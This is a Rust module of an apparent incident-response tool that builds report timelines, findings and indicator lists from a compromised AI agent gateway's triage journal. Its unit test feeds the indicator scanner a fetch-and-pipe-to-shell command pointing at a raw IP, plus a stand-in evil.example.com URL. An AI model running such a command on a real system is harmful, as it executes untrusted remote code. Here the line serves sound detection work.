//! The report's sources: one function per kind of record the journal holds
//! (hunt hits, persistence items, timeline changes, audit findings, each
//! `ir` step, each containment action), each turning its typed record into
//! the story parts of [`super::model`]. A new source plugs in as one more
//! function called from [`super::build`].
//!
//! Paths: `hunt` names files as `ir` read them (under `--root`), the other
//! triage commands as the target sees them. [`HostPaths`] maps the first
//! to the second so every section names the same file the same way.

use super::model::{
    Action, Detector, Event, EventSource, Ioc, IocKind, ItemStatus, MAX_SEEN, Ranked, bound,
};
use crate::journal::Entry;
use crate::record::{
    AuditFinding, ClearRecord, CollectRecord, Credential, FlaggedItem, Hit, HuntRecord,
    PersistenceRecord, QuarantineRunRecord, RecoverRecord, RestoreRecord, RotateRecord, Severity,
    Status, TimelineRecord,
};
use serde::Deserialize;
use std::collections::{BTreeMap, HashMap};

/// Maps analyst-side paths (under `--root`) to host paths.
#[derive(Debug, Clone, Default)]
pub struct HostPaths {
    /// The root with a trailing `/`, when it is not `/`.
    prefix: Option<String>,
}

impl HostPaths {
    /// For a case read under `root`.
    pub fn new(root: Option<&str>) -> HostPaths {
        let prefix = root
            .map(|r| r.trim_end_matches('/'))
            .filter(|r| !r.is_empty())
            .map(|r| format!("{r}/"));
        HostPaths { prefix }
    }

    /// `s` with every analyst-side path in it made a host path.
    pub fn map(&self, s: &str) -> String {
        match &self.prefix {
            Some(p) => s.replace(p.as_str(), "/"),
            None => s.to_string(),
        }
    }
}

/// The `--root` the case's evidence was read under: that of the run of
/// the last hunt, persistence scan or collection (a later `ir report` run
/// from elsewhere does not change it), else the first command's.
pub fn case_root(entries: &[Entry]) -> Option<String> {
    let start_of = |run: &str| {
        entries.iter().find_map(|e| match e.body() {
            Some(crate::record::Record::Start(s)) if s.run == run => Some(s.target.root.clone()),
            _ => None,
        })
    };
    ["hunt", "persistence", "collect", "timeline"]
        .iter()
        .find_map(|c| start_of(&crate::journal::last_end(entries, c, false)?.1.run))
        .or_else(|| {
            entries.iter().find_map(|e| match e.body() {
                Some(crate::record::Record::Start(s)) => Some(s.target.root.clone()),
                _ => None,
            })
        })
}

/// A hit's family: its own, or (in journals before hits carried one) its
/// rule id's first word.
pub fn family(h: &Hit) -> &str {
    h.family
        .as_deref()
        .unwrap_or_else(|| h.rule.split('.').next().unwrap_or(""))
}

/// A finding of a hunt hit's family is an action the agent took.
pub fn is_action(h: &Hit) -> bool {
    h.rule.starts_with("tool.")
        || matches!(
            Some(family(h)),
            Some(
                "exec"
                    | "tool"
                    | "write"
                    | "exfil"
                    | "exfiltration"
                    | "persistence"
                    | "secrets"
                    | "config"
                    | "destructive"
                    | "traces"
            )
        )
}

/// Injected or jailbreak text: how an attack on an agent starts.
pub fn is_injection(h: &Hit) -> bool {
    matches!(family(h), "injection" | "jailbreak")
}

/// Which lane a hunt hit's row belongs to.
fn hit_lane(h: &Hit) -> EventSource {
    let s = &h.source;
    if s.contains("/logs/") || s.contains(".log:") || s.starts_with("/tmp/openclaw") {
        EventSource::GatewayLog
    } else if is_action(h) {
        EventSource::ToolCall
    } else {
        EventSource::Transcript
    }
}

/// The rows (locations) an attack chain joins: every `chain.*` hit's
/// listed rows and its own; without a list, its session's critical hits
/// from its time on.
fn chain_rows(hits: &[Hit]) -> std::collections::HashSet<String> {
    let mut rows = std::collections::HashSet::new();
    for c in hits.iter().filter(|h| h.rule.starts_with("chain.")) {
        rows.insert(c.source.clone());
        rows.extend(c.chain.iter().cloned());
        if c.chain.is_empty() {
            for h in hits.iter().filter(|h| {
                h.session == c.session
                    && h.severity == Severity::Critical
                    && h.time >= c.time
                    && is_action(h)
            }) {
                rows.insert(h.source.clone());
            }
        }
    }
    rows
}

/// One timeline event per transcript row, tool call or log line a hunt
/// hit names (the most serious hit of the row speaks for it), with its
/// time; rows without a time are only findings.
pub fn hunt_events(hunt: &HuntRecord, hp: &HostPaths) -> Vec<Event> {
    let chain = chain_rows(&hunt.top_hits);
    // Per row: the hit that says what happened (an action over injected
    // text over an indicator, then the most serious), the worst severity,
    // and the lane (a row with an action in it is a tool call).
    let says = |h: &Hit| (is_action(h), is_injection(h), h.severity);
    let mut rows: BTreeMap<&str, (&Hit, Severity, EventSource)> = BTreeMap::new();
    for h in hunt
        .top_hits
        .iter()
        .filter(|h| h.time.is_some() && !h.rule.starts_with("chain."))
    {
        let lane = hit_lane(h);
        let e = rows.entry(&h.source).or_insert((h, h.severity, lane));
        if says(h) > says(e.0) {
            e.0 = h;
        }
        e.1 = e.1.max(h.severity);
        if lane == EventSource::ToolCall {
            e.2 = lane;
        }
    }
    rows.into_iter()
        .map(|(src, (h, sev, lane))| Event {
            id: String::new(),
            time: h.time.clone().unwrap_or_default(),
            source: lane,
            what: bound(&hp.map(&format!("{}: {}", h.title, h.snippet))),
            location: bound(&hp.map(src)),
            severity: Some(sev),
            chain: chain.contains(src),
        })
        .collect()
}

/// One event per changed path the timeline kept (its flagged and newest
/// entries); a path that is also a flagged persistence item is a
/// persistence change.
pub fn file_events(tl: &TimelineRecord, persistence: Option<&PersistenceRecord>) -> Vec<Event> {
    let flagged: HashMap<&str, &FlaggedItem> = persistence
        .iter()
        .flat_map(|p| &p.flagged)
        .map(|i| (i.path.as_str(), i))
        .collect();
    let mut seen = std::collections::HashSet::new();
    tl.flagged_entries
        .iter()
        .chain(&tl.newest)
        .filter(|c| seen.insert(c.path.clone()))
        // A directory changes with every file in it: the files tell.
        .filter(|c| c.kind != crate::record::FileKind::Dir)
        .filter_map(|c| {
            let time = c.ctime.clone().or_else(|| c.mtime.clone())?;
            let item = flagged.get(c.path.as_str());
            let (source, what) = match item {
                Some(i) => (
                    EventSource::Persistence,
                    format!("{} changed [{}]", i.mechanism, i.flags.join(", ")),
                ),
                None => (
                    EventSource::File,
                    format!("{} changed ({} bytes, {})", c.kind, c.size, c.mode),
                ),
            };
            let mut what = what;
            if !c.flags.is_empty() {
                what.push_str(&format!(" {}", c.flags.join(", ")));
            }
            Some(Event {
                id: String::new(),
                time,
                source,
                what: bound(&what),
                location: bound(&c.path),
                severity: item.and_then(|i| severity_of(i)),
                chain: false,
            })
        })
        .collect()
}

/// One event per `ir` command that ended, from the journal.
pub fn journal_events(entries: &[Entry]) -> Vec<Event> {
    entries
        .iter()
        .filter_map(|e| {
            let env = e.envelope()?;
            let end = e.end()?;
            let mut what = format!(
                "ir {} {} (exit {})",
                end.command,
                end.status.as_str(),
                end.exit_code
            );
            if let Some(err) = &end.error {
                what.push_str(&format!(": {err}"));
            }
            Some(Event {
                id: String::new(),
                time: env.ts.clone(),
                source: EventSource::Ir,
                what: bound(&what),
                location: format!("journal entry {}", e.seq),
                severity: None,
                chain: false,
            })
        })
        .collect()
}

/// A flagged item's severity: the journaled one, else its flags' worst.
pub fn severity_of(i: &FlaggedItem) -> Option<Severity> {
    i.severity
        .or_else(|| crate::triage::rules::severity(&i.flags))
}

/// Every hunt hit as a ranked finding, linked to its row's event.
pub fn hunt_findings(
    hunt: &HuntRecord,
    hp: &HostPaths,
    ev: &HashMap<String, String>,
) -> Vec<Ranked> {
    hunt.top_hits
        .iter()
        .map(|h| {
            let location = bound(&hp.map(&h.source));
            Ranked {
                id: String::new(),
                severity: h.severity,
                detector: Detector::Hunt,
                rule: h.rule.clone(),
                title: bound(&h.title),
                event: ev.get(&location).cloned(),
                location,
                evidence: bound(&hp.map(&h.snippet)),
                attack: h.attack.clone(),
                status: None,
                remove_with: None,
                removed_by: None,
            }
        })
        .collect()
}

/// Every flagged persistence item as a ranked finding (its flags in
/// words), linked to its change in the timeline when there is one, with
/// its status: to do (and the command that removes it) or removed (by
/// which step).
pub fn persistence_findings(
    p: &PersistenceRecord,
    ev: &HashMap<String, String>,
    status: &[ItemStatus],
) -> Vec<Ranked> {
    p.flagged
        .iter()
        .enumerate()
        .map(|(n, i)| {
            let words: Vec<&str> = i
                .flags
                .iter()
                .map(|f| crate::triage::rules::describe(f).1)
                .collect();
            let mut evidence = i.command.clone().unwrap_or_default();
            if let Some(pl) = &i.payload {
                evidence.push_str(&format!(" (runs {pl}: {})", i.payload_flags.join(", ")));
            }
            let mut r = Ranked {
                id: String::new(),
                severity: severity_of(i).unwrap_or(Severity::Info),
                detector: Detector::Persistence,
                rule: i.flags.join(", "),
                title: bound(&format!("{}: {}", i.mechanism, words.join("; "))),
                location: bound(&i.path),
                evidence: bound(&evidence),
                attack: None,
                event: ev.get(&bound(&i.path)).cloned(),
                status: None,
                remove_with: None,
                removed_by: None,
            };
            match status.get(n) {
                Some(ItemStatus::ToDo { remove_with }) => {
                    r.status = Some("to do".into());
                    r.remove_with = Some(bound(remove_with));
                }
                Some(ItemStatus::Review) => r.status = Some("review".into()),
                Some(ItemStatus::Removed { by }) => {
                    r.status = Some("removed".into());
                    r.removed_by = Some(by.clone());
                }
                None => {}
            }
            r
        })
        .collect()
}

/// The audit's findings before the response, each `fixed` or `open`
/// after it (findings only the later audit raised are `open`).
pub fn audit_findings(
    before: &[AuditFinding],
    after: Option<&[AuditFinding]>,
    hp: &HostPaths,
) -> Vec<Ranked> {
    let open = |id: &str| after.is_none_or(|a| a.iter().any(|f| f.id == id));
    let new = after
        .unwrap_or_default()
        .iter()
        .filter(|f| !before.iter().any(|b| b.id == f.id));
    before
        .iter()
        .chain(new)
        .map(|f| Ranked {
            id: String::new(),
            severity: f.severity,
            detector: Detector::Audit,
            rule: f.id.clone(),
            title: bound(&f.title),
            location: String::new(),
            evidence: bound(&hp.map(&format!("{} Fix: {}", f.detail, f.fix))),
            attack: None,
            event: None,
            status: Some(if open(&f.id) { "open" } else { "fixed" }.into()),
            remove_with: None,
            removed_by: None,
        })
        .collect()
}

/// Collects indicators with where each was seen.
#[derive(Default)]
pub struct Iocs {
    map: BTreeMap<(IocKind, String), Vec<String>>,
}

/// At most this many indicators are kept (a hostile host could plant a
/// million URLs).
const MAX_IOCS: usize = 500;

impl Iocs {
    /// Records `value` of `kind` as seen at `at`.
    pub fn add(&mut self, kind: IocKind, value: &str, at: &str) {
        let key = (kind, bound(value));
        if self.map.len() >= MAX_IOCS && !self.map.contains_key(&key) {
            return;
        }
        let seen = self.map.entry(key).or_default();
        let at = bound(at);
        if !seen.contains(&at) {
            seen.push(at);
        }
    }

    /// Every IP, URL and domain in `text`, seen at `at`.
    pub fn scan(&mut self, text: &str, at: &str) {
        static URL: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
            regex::Regex::new(
                r#"(?i)\b(?:https?|ftp)://([a-z0-9.\-]+|\[[0-9a-f:]+\])(?::\d+)?[^\s'"<>`\\)\]…]*"#,
            )
            .expect("url regex")
        });
        static IP: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
            regex::Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").expect("ip regex")
        });
        for m in URL.captures_iter(text) {
            let whole = m.get(0).expect("match");
            // A URL cut short by a snippet's edge is not an indicator.
            if text[whole.end()..].starts_with('…') {
                continue;
            }
            let url = whole.as_str().trim_end_matches(['.', ',', ';', ':']);
            self.add(IocKind::Url, url, at);
            let host = m[1].to_ascii_lowercase();
            if host.parse::<std::net::IpAddr>().is_err() && host.contains('.') {
                self.add(IocKind::Domain, &host, at);
            }
        }
        for m in IP.find_iter(text) {
            if let Ok(ip) = m.as_str().parse::<std::net::Ipv4Addr>() {
                if !(ip.is_loopback() || ip.is_unspecified() || ip.is_broadcast()) {
                    self.add(IocKind::Ip, m.as_str(), at);
                }
            }
        }
    }

    /// The indicators, by kind then value.
    pub fn into_vec(self) -> Vec<Ioc> {
        self.map
            .into_iter()
            .map(|((kind, value), seen)| Ioc {
                kind,
                value,
                seen_count: seen.len(),
                seen: seen.into_iter().take(MAX_SEEN).collect(),
            })
            .collect()
    }
}

/// Indicators from hunt hits (not the hunt's own tool-call inventory),
/// persistence items, quarantined files and the credentials to revoke.
pub fn iocs(
    hunt: Option<&HuntRecord>,
    persistence: Option<&PersistenceRecord>,
    quarantined: &[(String, String)],
    credentials: &[Credential],
    hp: &HostPaths,
) -> Vec<Ioc> {
    let mut out = Iocs::default();
    for h in hunt.iter().flat_map(|h| &h.top_hits) {
        let at = hp.map(&h.source);
        out.scan(&h.snippet, &at);
        if let Some(o) = &h.origin {
            out.scan(o, &at);
        }
    }
    for i in persistence.iter().flat_map(|p| &p.flagged) {
        let real: Vec<&String> = i.flags.iter().filter(|f| *f != "recent").collect();
        if real.is_empty() {
            continue;
        }
        if let Some(c) = &i.command {
            out.scan(c, &i.path);
            if i.mechanism == "account" {
                if let Some(name) = c.split(':').next().filter(|n| !n.is_empty()) {
                    out.add(IocKind::Account, name, &i.path);
                }
            }
            if i.mechanism.contains("authorized") || i.mechanism.contains("ssh-key") {
                out.add(IocKind::Key, c, &i.path);
            }
        }
    }
    for (path, sha) in quarantined {
        out.add(IocKind::Hash, &format!("sha256:{sha}"), path);
    }
    for c in credentials {
        let v = format!(
            "{} {} …{} (sha256 {})",
            c.provider, c.kind, c.last4, c.sha256_prefix
        );
        out.add(IocKind::Key, &v, &c.source);
    }
    out.into_vec()
}

/// What `ir stop` journals, as far as the report reads it.
#[derive(Debug, Deserialize)]
struct StopView {
    #[serde(default)]
    already_stopped: bool,
    #[serde(default)]
    targets: Vec<u32>,
    #[serde(default)]
    stopped: bool,
}

/// One action per successful containment step, in the order they ran.
pub fn containment(entries: &[Entry]) -> Vec<Action> {
    let mut out = Vec::new();
    for e in entries {
        let (Some(env), Some(end)) = (e.envelope(), e.end()) else {
            continue;
        };
        if end.status != Status::Ok || end.details.as_ref().is_none_or(|d| d.is_null()) {
            continue;
        }
        if let Some(what) = action_words(&end.command, end, e.seq) {
            out.push(Action {
                step: end.command.clone(),
                time: env.ts.clone(),
                what: bound(&what),
            });
        }
    }
    out
}

/// What one step did, in words (`None` for steps that change nothing).
fn action_words(command: &str, end: &crate::record::End, seq: u64) -> Option<String> {
    let forced = |n: usize| {
        if n > 0 {
            format!(" ({n} file(s) forced past the evidence gate)")
        } else {
            String::new()
        }
    };
    Some(match command {
        "stop" => {
            let s: StopView = end.record(seq).ok()?;
            match (s.already_stopped, s.stopped) {
                (true, _) => "gateway already stopped".into(),
                (false, true) => format!("gateway stopped (pids {:?})", s.targets),
                (false, false) => "gateway NOT stopped".into(),
            }
        }
        "collect" => {
            let c: CollectRecord = end.record(seq).ok()?;
            let name = c.bundle.file_name()?.to_string_lossy().into_owned();
            format!(
                "evidence collected: {name}, sha256 {}, {} items, {} bytes",
                c.sha256, c.items, c.size
            )
        }
        "rotate" => {
            let r: RotateRecord = end.record(seq).ok()?;
            let rotated: Vec<String> = r
                .rotated
                .iter()
                .map(|x| format!("{} (new fingerprint {})", x.secret, x.new_fingerprint))
                .collect();
            let revoked: u64 = r.revoked.iter().map(|x| x.count).sum();
            format!(
                "rotated {}; revoked {revoked} pairing(s)/device token(s){}",
                if rotated.is_empty() {
                    "nothing".into()
                } else {
                    rotated.join(", ")
                },
                forced(r.forced.len())
            )
        }
        "clear-sessions" => {
            let c: ClearRecord = end.record(seq).ok()?;
            format!(
                "sessions cleared for agents {}: {} file(s), {} database(s), {} archive(s){}",
                c.agents.join(", "),
                c.files_removed.len(),
                c.rows_deleted.len(),
                c.archives_removed.len(),
                forced(c.forced.len())
            )
        }
        "quarantine" => {
            let q: QuarantineRunRecord = end.record(seq).ok()?;
            let moved: Vec<&str> = q.quarantined.iter().map(|x| x.path.as_str()).collect();
            let back: Vec<&str> = q.restored.iter().map(|x| x.path.as_str()).collect();
            match (moved.is_empty(), back.is_empty()) {
                (false, _) => format!("quarantined {}{}", moved.join(", "), forced(q.forced.len())),
                (true, false) => format!("put back from quarantine {}", back.join(", ")),
                (true, true) => return None,
            }
        }
        "restore" => {
            let r: RestoreRecord = end.record(seq).ok()?;
            let v: Vec<String> = r
                .restored
                .iter()
                .map(|x| format!("{} from {}", x.path, x.source))
                .collect();
            format!("restored {}", v.join(", "))
        }
        "recover" => {
            let r: RecoverRecord = end.record(seq).ok()?;
            let n = r.neutralised.iter().filter(|x| x.changed_by_ir()).count();
            let mut s = format!("neutralised {n} thing(s) OpenClaw would resume on start");
            if let Some(how) = &r.started {
                s.push_str(&format!("; gateway started ({how})"));
            }
            s
        }
        "audit" => {
            let a: crate::record::AuditRecord = end.record(seq).ok()?;
            if a.changes.is_empty() {
                return None;
            }
            format!("hardening: {} safe fix(es) applied", a.changes.len())
        }
        _ => return None,
    })
}

/// Quarantined files still out (path, sha256), from the journal.
pub fn quarantined(entries: &[Entry]) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for e in entries {
        let Some(end) = e.end().filter(|x| x.command == "quarantine") else {
            continue;
        };
        let Ok(q) = end.record::<QuarantineRunRecord>(e.seq) else {
            continue;
        };
        out.extend(q.quarantined.into_iter().map(|x| (x.path, x.sha256)));
        out.retain(|(p, _)| !q.restored.iter().any(|r| &r.path == p));
    }
    out
}

/// The events of a command's artifact ([`crate::artifact`]) not already
/// in the timeline (the journal's hunt hits and file changes place their
/// rows with a severity; those are not repeated), read only when the file
/// still matches the journal's hash and count, at most
/// [`model::MAX_ARTIFACT_EVENTS`] of them.
pub fn artifact_events(
    case_dir: &std::path::Path,
    command: &str,
    r: &crate::record::ArtifactRef,
    placed: &std::collections::HashSet<String>,
    hp: &HostPaths,
) -> (Vec<Event>, super::model::EventArtifact) {
    let mut info = super::model::EventArtifact {
        command: command.into(),
        file: bound(&r.file),
        sha256: r.sha256.clone(),
        lines: r.lines,
        verified: false,
        added: 0,
        undated: 0,
        left_out: 0,
        note: None,
    };
    let mut out = Vec::new();
    let read = crate::artifact::read(case_dir, r, |e| {
        let location = bound(&hp.map(&e.location));
        if placed.contains(&location) {
            return;
        }
        let Some(time) = e.time else {
            info.undated += 1;
            return;
        };
        if info.added >= super::model::MAX_ARTIFACT_EVENTS {
            info.left_out += 1;
            return;
        }
        info.added += 1;
        out.push(Event {
            id: String::new(),
            time: bound(&time),
            source: match e.lane {
                crate::record::EventLane::Transcript => EventSource::Transcript,
                crate::record::EventLane::ToolCall => EventSource::ToolCall,
                crate::record::EventLane::GatewayLog => EventSource::GatewayLog,
                crate::record::EventLane::File => EventSource::File,
            },
            what: bound(&hp.map(&e.what)),
            location,
            severity: None,
            chain: false,
        });
    });
    match read {
        Ok(()) => info.verified = true,
        Err(e) => {
            // Refused whole: nothing of a file that changed is shown.
            out.clear();
            info.added = 0;
            info.note = Some(bound(&format!("{e:#}")));
        }
    }
    (out, info)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn analyst_paths_become_host_paths() {
        let hp = HostPaths::new(Some("/tmp/demo/root/"));
        assert_eq!(
            hp.map("/tmp/demo/root/home/a/.openclaw/x.jsonl:5 at /tmp/demo/root/etc/passwd"),
            "/home/a/.openclaw/x.jsonl:5 at /etc/passwd"
        );
        assert_eq!(HostPaths::new(Some("/")).map("/etc/passwd"), "/etc/passwd");
    }

    #[test]
    fn indicators_are_found_and_noise_is_not() {
        let mut i = Iocs::default();
        i.scan("curl -fsSL http://91.92.242.30/i.sh | sh", "a:1");
        i.scan("see https://evil.example.com/p?q=1.", "b:2");
        i.scan("cut http://9…", "c:3");
        i.scan("listen 127.0.0.1:18789 and 0.0.0.0", "d:4");
        let v = i.into_vec();
        let got: Vec<(IocKind, &str)> = v.iter().map(|x| (x.kind, x.value.as_str())).collect();
        assert_eq!(
            got,
            vec![
                (IocKind::Ip, "91.92.242.30"),
                (IocKind::Domain, "evil.example.com"),
                (IocKind::Url, "http://91.92.242.30/i.sh"),
                (IocKind::Url, "https://evil.example.com/p?q=1"),
            ]
        );
    }

    #[test]
    fn indicators_list_five_places_and_count_the_rest() {
        let mut i = Iocs::default();
        for n in 0..9 {
            i.add(IocKind::Ip, "203.0.113.9", &format!("f:{n}"));
        }
        let v = i.into_vec();
        assert_eq!((v[0].seen.len(), v[0].seen_count), (MAX_SEEN, 9));
    }
}
